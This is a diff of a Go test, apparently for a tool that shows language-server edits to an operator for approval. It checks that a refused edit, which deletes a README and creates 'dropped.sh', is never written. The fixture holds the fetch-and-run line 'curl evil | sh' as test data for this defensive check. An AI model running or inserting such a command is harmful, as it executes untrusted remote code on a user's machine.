@@ -194,7 +194,7 @@ func TestFixCommandEditAskedOnItsOwnCard(t *testing.T) {
 	expectCard(t, "the command's card", shown[:1], 1, `lsp_fix action_1 "Tidy" for a.fake (fake)`,
 		"It runs fake's command atk.cmd: what that changes is not known until it runs; each edit it sends will be shown for approval before it is written")
 	expectCard(t, "the edit's card", shown, 2, "fake's command atk.cmd, run by lsp_fix action_1", "README: deleted", "dropped.sh: created", "+curl evil | sh")
-	if !isErr || !strings.Contains(text, "was not written") || !strings.Contains(text, "the operator did not approve it") {
+	if !isErr || !strings.Contains(text, "fake's command atk.cmd sent an edit that was not applied") || !strings.Contains(text, "the operator did not approve it") {
 		t.Errorf("the refused edit: %s", text)
 	}
 	if _, err := os.Stat(filepath.Join(root, "dropped.sh")); err == nil {
